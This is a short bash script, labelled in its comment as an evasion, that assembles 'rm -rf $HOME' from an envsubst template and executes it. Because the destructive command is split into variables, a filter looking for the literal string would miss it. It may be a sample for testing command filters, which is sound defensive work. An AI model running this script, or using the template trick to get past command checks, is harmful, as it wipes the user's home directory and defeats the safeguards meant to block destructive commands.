#!/bin/bash
# evasion: envsubst fills a template whose result is word-split and run: rm -rf of the home
tmpl='$TOOL -$FLAGS -- $TARGET'
cmd=$(TOOL=rm FLAGS=rf TARGET="$HOME" envsubst <<<"$tmpl")
$cmd
